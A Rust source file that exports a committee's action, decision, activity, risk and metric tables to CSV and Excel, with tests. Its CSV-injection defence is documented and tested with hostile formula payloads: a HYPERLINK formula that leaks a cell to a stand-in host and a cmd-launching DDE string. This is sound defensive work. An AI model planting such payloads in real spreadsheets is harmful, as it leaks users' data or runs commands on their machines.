//! The committee's tables as files people open in a spreadsheet: the action
//! tracker, activities (current status and progress), risks and metric
//! observations, each as CSV and as an Excel workbook (`data/<table>.csv`,
//! `data/<table>.xlsx`, in every language: headers and texts differ).
//!
//! Workbooks hold a formatted Excel table with real dates and numbers, a
//! frozen header row and columns wide enough for their text. They are the
//! same bytes for the same content: the document's dates are the briefing
//! date, and rust_xlsxwriter writes every zip entry with the same fixed
//! timestamp (1980-01-01).

use jiff::civil::Date;
use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Table, TableColumn, Workbook, XlsxError};

use super::localize::Localizer;
use super::memo::Memo;
use super::view::parts::Tracked;
use crate::derive::{DecisionStatus, RiskChange};
use crate::model::Site;

/// One cell of an exported table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Empty,
    Text(String),
    Date(Date),
    Number(f64),
    /// Progress: `45` in CSV, 45 % (0.45) in a workbook.
    Percent(u8),
}

/// One exported table.
#[derive(Debug, Clone)]
pub struct Sheet {
    /// The file name without extension: `actions`, `activities`, `risks`, `metrics`.
    pub name: &'static str,
    /// The sheet's title in this language.
    pub title: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// The files of every table, in one language (paths relative to its root).
/// A workbook is made from its table, title and date alone, so the preview
/// takes it from the previous build (`memo`) when those are unchanged.
///
/// Every table gets both files: a workbook holds any table (dates Excel
/// cannot hold as dates go in as text, rows past a sheet's go on to more
/// sheets), so the pages' links to it always lead somewhere. Should one
/// still fail to be made, why is put in `failed`, and the build fails
/// rather than publish pages that link a file it did not write.
pub fn files(
    l: &Localizer,
    site: &Site,
    state: &Tracked,
    memo: &Memo,
    failed: &std::sync::Mutex<Vec<String>>,
) -> Vec<(String, Vec<u8>)> {
    use rayon::prelude::*;
    let as_of = state.as_of();
    sheets(l, site, state)
        .par_iter()
        .flat_map_iter(|sheet| {
            let mut out = vec![(format!("data/{}.csv", sheet.name), to_csv(sheet))];
            let title = format!("{} — {}", l.text(&site.title), sheet.title);
            let mut why = None;
            let book = memo.made(&(sheet, &title, as_of), |(sheet, title, as_of)| {
                to_xlsx(sheet, title, *as_of).map_err(|e| why = Some(e.to_string())).ok()
            });
            match book {
                Some(bytes) => out.push((format!("data/{}.xlsx", sheet.name), bytes.to_vec())),
                None => failed.lock().unwrap_or_else(|e| e.into_inner()).push(format!(
                    "data/{}.xlsx could not be made: {}",
                    sheet.name,
                    why.unwrap_or_default()
                )),
            }
            out
        })
        .collect()
}

/// The five tables, in this language.
pub fn sheets(l: &Localizer, site: &Site, state: &Tracked) -> Vec<Sheet> {
    let (groups, actions) = (state.groups(), state.actions());
    let group_name = |id: &str| {
        groups.iter().find(|g| g.group.id == id).map(|g| l.text(&g.group.name)).unwrap_or_default()
    };
    let text = |s: String| if s.is_empty() { Cell::Empty } else { Cell::Text(s) };
    let actions = Sheet {
        name: "actions",
        title: l.s("nav_actions"),
        headers: [
            "col_id",
            "col_action",
            "col_owner",
            "col_group",
            "col_due",
            "col_status",
            "col_meeting_date",
            "col_meeting",
        ]
        .iter()
        .map(|k| l.s(k))
        .collect(),
        rows: actions
            .iter()
            .map(|a| {
                vec![
                    Cell::Text(a.action.id.value.clone()),
                    text(plain(&l.text(&a.action.text))),
                    text(l.text(&a.action.owner)),
                    text(a.action.group.as_ref().map(|g| group_name(&g.value)).unwrap_or_default()),
                    a.action.due.map_or(Cell::Empty, Cell::Date),
                    Cell::Text(l.action_status(a.action.status, a.overdue).label),
                    Cell::Date(a.meeting.date),
                    text(l.text(&a.meeting.title)),
                ]
            })
            .collect(),
    };
    let mut activities = Sheet {
        name: "activities",
        title: l.s("heading_activities"),
        headers: [
            "col_group",
            "col_id",
            "col_activity",
            "col_lead",
            "col_due",
            "col_status",
            "col_progress",
            "col_note",
            "col_reported",
        ]
        .iter()
        .map(|k| l.s(k))
        .collect(),
        rows: Vec::new(),
    };
    let mut risks = Sheet {
        name: "risks",
        title: l.s("heading_risks"),
        headers: [
            "col_group",
            "col_id",
            "col_risk",
            "col_level",
            "col_risk_status",
            "col_mitigation",
            "col_reported",
        ]
        .iter()
        .map(|k| l.s(k))
        .collect(),
        rows: Vec::new(),
    };
    let mut metrics = Sheet {
        name: "metrics",
        title: l.s("heading_metrics"),
        headers: ["col_group", "col_id", "col_metric", "col_unit", "col_period", "col_party", "col_value"]
            .iter()
            .map(|k| l.s(k))
            .collect(),
        rows: Vec::new(),
    };
    for g in groups {
        let name = l.text(&g.group.name);
        let reported = g.latest.map_or(Cell::Empty, |u| Cell::Date(u.date));
        for a in &g.activities {
            let lead: Vec<String> = a
                .activity
                .lead
                .iter()
                .map(|p| site.party(&p.value).map(|t| l.text(t)).unwrap_or_else(|| p.value.clone()))
                .collect();
            activities.rows.push(vec![
                Cell::Text(name.clone()),
                Cell::Text(a.activity.id.value.clone()),
                text(l.text(&a.activity.title)),
                text(lead.join(", ")),
                a.activity.due.map_or(Cell::Empty, Cell::Date),
                a.status.map_or(Cell::Empty, |s| Cell::Text(l.status(s).label)),
                a.progress.map_or(Cell::Empty, Cell::Percent),
                a.note.map_or(Cell::Empty, |n| text(plain(&l.text(n)))),
                reported.clone(),
            ]);
        }
        for r in &g.risks {
            risks.rows.push(vec![
                Cell::Text(name.clone()),
                r.risk.id.clone().map_or(Cell::Empty, Cell::Text),
                text(l.text(&r.risk.title)),
                Cell::Text(l.risk(r.risk.level)),
                Cell::Text(match r.change {
                    RiskChange::Closed => l.s("risk_closed_label"),
                    RiskChange::NotReported { .. } => l.s("risk_not_reported_label"),
                    _ => l.s("risk_open_label"),
                }),
                r.risk.mitigation.as_ref().map_or(Cell::Empty, |m| text(plain(&l.text(m)))),
                // A risk not reported is as it was on its last report.
                match r.change {
                    RiskChange::NotReported { since } => Cell::Date(since),
                    _ => reported.clone(),
                },
            ]);
        }
        for m in &g.metrics {
            let unit = m.metric.unit.as_ref().map_or(Cell::Empty, |u| text(l.text(u)));
            for (i, period) in m.periods.iter().enumerate() {
                for (party, values) in &m.series {
                    let Some(v) = values.get(i).copied().flatten() else { continue };
                    let party_name = site.party(party).map(|t| l.text(t)).unwrap_or_else(|| party.clone());
                    metrics.rows.push(vec![
                        Cell::Text(name.clone()),
                        Cell::Text(m.metric.id.value.clone()),
                        text(l.text(&m.metric.title)),
                        unit.clone(),
                        Cell::Text(period.clone()),
                        Cell::Text(party_name),
                        Cell::Number(v),
                    ]);
                }
            }
        }
    }
    let decisions = Sheet {
        name: "decisions",
        title: l.s("nav_decisions"),
        headers: [
            "col_reference",
            "col_decision",
            "col_group",
            "col_meeting_date",
            "col_decision_status",
            "col_decision_by",
            "col_record",
        ]
        .iter()
        .map(|k| l.s(k))
        .collect(),
        rows: state
            .decisions()
            .iter()
            .map(|d| {
                let (status, by) = match &d.status {
                    DecisionStatus::InEffect => ("decision_in_effect", None),
                    DecisionStatus::Superseded { by } => ("decision_status_superseded", Some(by)),
                    DecisionStatus::Rescinded { by } => ("decision_status_rescinded", Some(by)),
                };
                vec![
                    Cell::Text(d.reference.clone()),
                    text(plain(&l.text(&d.decision.text))),
                    text(d.decision.group.as_ref().map(|g| group_name(&g.value)).unwrap_or_default()),
                    Cell::Date(d.meeting_date),
                    Cell::Text(l.s(status)),
                    by.map_or(Cell::Empty, |b| Cell::Text(b.reference.clone())),
                    d.record.map_or(Cell::Empty, |r| Cell::Text(l.s(&format!("record_{}", r.key())))),
                ]
            })
            .collect(),
    };
    vec![actions, decisions, activities, risks, metrics]
}

/// A Markdown text as plain text, for files that show no HTML: emphasis and
/// link targets dropped, paragraphs on lines of their own.
pub fn plain(markdown: &str) -> String {
    use pulldown_cmark::{Event, Parser, TagEnd};
    let mut out = String::new();
    for event in Parser::new(markdown) {
        match event {
            Event::Text(t) | Event::Code(t) => out.push_str(&t),
            Event::SoftBreak => out.push(' '),
            Event::HardBreak => out.push('\n'),
            Event::End(TagEnd::Paragraph | TagEnd::Item | TagEnd::Heading(_)) => out.push('\n'),
            _ => {}
        }
    }
    out.trim_end().to_string()
}

/// The table as CSV (RFC 4180, UTF-8 with a byte-order mark so that Excel
/// reads accents right): dates `YYYY-MM-DD`, numbers with a point.
///
/// A spreadsheet runs a CSV cell that begins with `=`, `+`, `-` or `@` (or
/// a tab or carriage return before one) as a formula: an owner written
/// `=HYPERLINK("https://…"&A1, "Click")` would send the tracker's cells to
/// anyone. So every text cell, headers included, that begins with one of
/// those six characters gets a leading `'`, as OWASP's guidance on CSV
/// injection has it, and a spreadsheet shows it as the text it is. The
/// numeric columns are those whose cells are typed numbers, dates or
/// percentages ([`Cell::Number`], [`Cell::Date`], [`Cell::Percent`]: a
/// metric's value, a date, progress): they are written as numbers, so `-3.5`
/// stays a number. The workbooks need none of this: they hold text as text.
pub fn to_csv(sheet: &Sheet) -> Vec<u8> {
    let mut w =
        csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(b"\xEF\xBB\xBF".to_vec());
    // Writing into memory cannot fail.
    let _ = w.write_record(sheet.headers.iter().map(|h| inert(h)));
    for row in &sheet.rows {
        let _ = w.write_record(row.iter().map(|c| match c {
            Cell::Empty => String::new(),
            Cell::Text(t) => inert(t),
            Cell::Date(d) => d.to_string(),
            Cell::Number(n) => crate::core::words::show_number(*n),
            Cell::Percent(p) => p.to_string(),
        }));
    }
    w.into_inner().unwrap_or_default()
}

/// A text cell as a spreadsheet reads it as text, never as a formula.
fn inert(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
}

/// The widest a column grows, in characters.
const MAX_WIDTH: usize = 60;

/// The most rows of a table one sheet holds: Excel's 1,048,576 less the
/// header row. A longer table goes on to the next sheet.
pub const ROWS_PER_SHEET: usize = 1_048_575;

/// The table as an Excel workbook: an Excel table (banded, with filters),
/// the header row frozen, dates as dates, numbers as numbers (progress as a
/// percentage), each column as wide as its longest text up to 60 characters.
/// `title` is the document's ("Committee — Actions"), `as_of` its date.
/// A date Excel cannot hold as a date (before 1900, as a typo `1021-09-30`
/// is) is written as its text, and a table longer than a sheet goes on to
/// sheets of [`ROWS_PER_SHEET`] rows each (`Metrics (2)`, …).
pub fn to_xlsx(sheet: &Sheet, title: &str, as_of: Date) -> Result<Vec<u8>, XlsxError> {
    to_xlsx_in(sheet, title, as_of, ROWS_PER_SHEET)
}

/// A date as Excel holds one, if it can (years 1900 to 9999: Excel shows
/// the day before 1900-01-01 as `1900-01-00`).
fn excel_date(d: Date) -> Option<ExcelDateTime> {
    let year = u16::try_from(d.year()).ok().filter(|y| (1900..=9999).contains(y))?;
    ExcelDateTime::from_ymd(year, d.month() as u8, d.day() as u8).ok()
}

fn to_xlsx_in(sheet: &Sheet, title: &str, as_of: Date, per_sheet: usize) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    // The document's date: the briefing date, or the nearest Excel can hold
    // (never the clock, which rust_xlsxwriter would take otherwise).
    let created = excel_date(as_of)
        .or_else(|| {
            excel_date(if as_of.year() < 1900 {
                Date::constant(1900, 1, 1)
            } else {
                Date::constant(9999, 12, 31)
            })
        })
        .ok_or_else(|| XlsxError::ParameterError("the briefing date".into()))?;
    book.set_properties(
        &DocProperties::new().set_title(title).set_author("briefing").set_creation_datetime(&created),
    );
    let date = Format::new().set_num_format("yyyy-mm-dd");
    let percent = Format::new().set_num_format("0%");
    let wrap = Format::new().set_text_wrap();
    let pages: Vec<&[Vec<Cell>]> =
        if sheet.rows.is_empty() { vec![&[]] } else { sheet.rows.chunks(per_sheet.max(1)).collect() };
    for (page, rows) in pages.iter().enumerate() {
        let ws = book.add_worksheet();
        let (name, table) = if page == 0 {
            (sheet_name(&sheet.title), sheet.name.to_string())
        } else {
            let more = format!(" ({})", page + 1);
            let base: String = sheet_name(&sheet.title).chars().take(31 - more.len()).collect();
            (format!("{}{more}", base.trim_end()), format!("{}_{}", sheet.name, page + 1))
        };
        ws.set_name(name)?;
        let mut widths: Vec<usize> = sheet.headers.iter().map(|h| h.chars().count() + 4).collect();
        for (r, row) in rows.iter().enumerate() {
            let r = r as u32 + 1;
            for (c, cell) in row.iter().enumerate() {
                let col = c as u16;
                let text = |ws: &mut rust_xlsxwriter::Worksheet, t: &str| -> Result<usize, XlsxError> {
                    let t = cell_text(t);
                    if t.chars().count() > MAX_WIDTH {
                        ws.write_string_with_format(r, col, t, &wrap)?;
                    } else {
                        ws.write_string(r, col, t)?;
                    }
                    Ok(t.chars().count())
                };
                let width = match cell {
                    Cell::Empty => 0,
                    Cell::Text(t) => text(ws, t)?,
                    Cell::Date(d) => match excel_date(*d) {
                        Some(v) => {
                            ws.write_datetime_with_format(r, col, &v, &date)?;
                            10
                        }
                        None => text(ws, &d.to_string())?,
                    },
                    Cell::Percent(p) => {
                        ws.write_number_with_format(r, col, f64::from(*p) / 100.0, &percent)?;
                        4
                    }
                    Cell::Number(n) if n.is_finite() => {
                        ws.write_number(r, col, *n)?;
                        crate::core::words::show_number(*n).len()
                    }
                    Cell::Number(n) => text(ws, &crate::core::words::show_number(*n))?,
                };
                if let Some(w) = widths.get_mut(c) {
                    *w = (*w).max(width + 2);
                }
            }
        }
        for (c, w) in widths.iter().enumerate() {
            ws.set_column_width(c as u16, (*w).min(MAX_WIDTH) as f64)?;
        }
        let columns: Vec<TableColumn> =
            sheet.headers.iter().map(|h| TableColumn::new().set_header(h)).collect();
        let last_row = rows.len().max(1) as u32;
        let last_col = sheet.headers.len().saturating_sub(1) as u16;
        ws.add_table(0, 0, last_row, last_col, &Table::new().set_name(&table).set_columns(&columns))?;
        ws.set_freeze_panes(1, 0)?;
    }
    book.save_to_buffer()
}

/// The most characters an Excel cell holds.
const MAX_CELL: usize = 32_767;

/// A text cut to what a cell holds (the CSV file keeps it whole).
fn cell_text(t: &str) -> &str {
    match t.char_indices().nth(MAX_CELL) {
        Some((i, _)) => &t[..i],
        None => t,
    }
}

/// A sheet name Excel accepts: at most 31 characters, none of `[]:*?/\`.
fn sheet_name(title: &str) -> String {
    let name: String = title.chars().map(|c| if "[]:*?/\\".contains(c) { ' ' } else { c }).take(31).collect();
    let name = name.trim().trim_matches('\'').to_string();
    if name.is_empty() { "Sheet1".into() } else { name }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_quoting_and_keeps_accents() {
        let sheet = Sheet {
            name: "risks",
            title: "Risques".into(),
            headers: vec!["Groupe".into(), "Risque".into()],
            rows: vec![vec![Cell::Text("Santé".into()), Cell::Text("a, \"b\"\nc".into())]],
        };
        let csv = String::from_utf8(to_csv(&sheet)).unwrap();
        assert_eq!(csv, "\u{feff}Groupe,Risque\r\nSanté,\"a, \"\"b\"\"\nc\"\r\n");
    }

    #[test]
    fn a_text_cell_that_a_spreadsheet_would_run_is_written_as_text_and_numbers_stay_numbers() {
        let date = Date::new(2021, 5, 26).unwrap();
        let texts = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "-3.5",
        ];
        let sheet = Sheet {
            name: "metrics",
            title: "Metrics".into(),
            headers: vec!["=Group".into(), "Value".into(), "Due".into(), "Progress".into()],
            rows: texts
                .iter()
                .map(|t| {
                    vec![Cell::Text(t.to_string()), Cell::Number(-3.5), Cell::Date(date), Cell::Percent(5)]
                })
                .collect(),
        };
        let csv = to_csv(&sheet);
        let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(&csv[3..]);
        let rows: Vec<Vec<String>> =
            read.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
        assert_eq!(rows[0], ["'=Group", "Value", "Due", "Progress"]);
        for (row, text) in rows[1..].iter().zip(texts) {
            assert_eq!(row[0], format!("'{text}"), "{text:?}");
            assert_eq!(row[1..], ["-3.5", "2021-05-26", "5"], "numeric columns stay numbers");
        }
        // Other texts are as they were, a quote or a space first included.
        for t in ["Santé", "'quoted", " =1", "1-2", "a=b", "Q1 — 2021"] {
            assert_eq!(inert(t), t);
        }
    }

    /// Each sheet of a workbook: its name and its rows as text.
    fn read_back(bytes: Vec<u8>) -> Vec<(String, Vec<Vec<String>>)> {
        use calamine::Reader;
        let mut book: calamine::Xlsx<_> = calamine::Reader::new(std::io::Cursor::new(bytes)).unwrap();
        book.sheet_names()
            .into_iter()
            .map(|name| {
                let range = book.worksheet_range(&name).unwrap();
                let rows = range
                    .rows()
                    .map(|r| {
                        r.iter()
                            .map(|c| match c {
                                calamine::Data::DateTime(d) => {
                                    let (y, m, d, ..) = d.to_ymd_hms_milli();
                                    format!("date {y:04}-{m:02}-{d:02}")
                                }
                                other => other.to_string(),
                            })
                            .collect()
                    })
                    .collect();
                (name, rows)
            })
            .collect()
    }

    #[test]
    fn a_workbook_holds_any_date_and_any_number_of_rows() {
        let d = |y, m, day| Date::new(y, m, day).unwrap();
        let sheet = Sheet {
            name: "actions",
            title: "Actions".into(),
            headers: vec!["ID".into(), "Due".into()],
            rows: [
                d(1021, 9, 30),
                d(2021, 9, 30),
                d(1899, 12, 31),
                d(1900, 1, 1),
                d(9999, 12, 31),
                d(-5, 1, 1),
                d(2022, 1, 1),
            ]
            .iter()
            .enumerate()
            .map(|(i, due)| vec![Cell::Text(format!("A-{i}")), Cell::Date(*due)])
            .collect(),
        };
        // A date before 1900 (or a briefing dated so) is text; the rest are dates.
        for as_of in [d(2021, 5, 26), d(1021, 5, 26), d(-5, 1, 1)] {
            let book = read_back(to_xlsx(&sheet, "Committee — Actions", as_of).unwrap());
            assert_eq!(book.len(), 1);
            let dues: Vec<&str> = book[0].1[1..].iter().map(|r| r[1].as_str()).collect();
            assert_eq!(
                dues,
                [
                    "1021-09-30",
                    "date 2021-09-30",
                    "1899-12-31",
                    "date 1900-01-01",
                    "date 9999-12-31",
                    "-000005-01-01",
                    "date 2022-01-01"
                ]
            );
        }
        // Rows past a sheet's go on to more sheets, each with the header
        // row and a table of its own.
        let book = read_back(to_xlsx_in(&sheet, "Committee — Actions", d(2021, 5, 26), 3).unwrap());
        let names: Vec<&str> = book.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, ["Actions", "Actions (2)", "Actions (3)"]);
        let ids: Vec<&str> =
            book.iter().flat_map(|(_, rows)| rows[1..].iter().map(|r| r[0].as_str())).collect();
        assert_eq!(ids, ["A-0", "A-1", "A-2", "A-3", "A-4", "A-5", "A-6"]);
        assert!(book.iter().all(|(_, rows)| rows[0] == ["ID", "Due"]));
        assert_eq!(ROWS_PER_SHEET, 1_048_576 - 1, "Excel's rows, less the header");
        let long = Sheet { title: "x".repeat(40), ..sheet.clone() };
        let book = read_back(to_xlsx_in(&long, "t", d(2021, 5, 26), 2).unwrap());
        assert!(
            book.iter().all(|(n, _)| n.chars().count() <= 31),
            "{:?}",
            book.iter().map(|b| &b.0).collect::<Vec<_>>()
        );
        // An empty table is a sheet of its header.
        let empty = Sheet { rows: Vec::new(), ..sheet };
        assert_eq!(read_back(to_xlsx(&empty, "t", d(2021, 5, 26)).unwrap())[0].1, [["ID", "Due"]]);
    }

    #[test]
    fn markdown_fields_are_exported_as_plain_text() {
        assert_eq!(
            plain("Plan **agreed**; see [the pilot](../groups/a.yaml).\n\nNext."),
            "Plan agreed; see the pilot.\nNext."
        );
    }

    #[test]
    fn sheet_names_are_ones_excel_accepts() {
        assert_eq!(sheet_name("Actions: open/closed"), "Actions  open closed");
        assert_eq!(sheet_name(&"x".repeat(40)).len(), 31);
        assert_eq!(sheet_name("[]"), "Sheet1");
    }
}
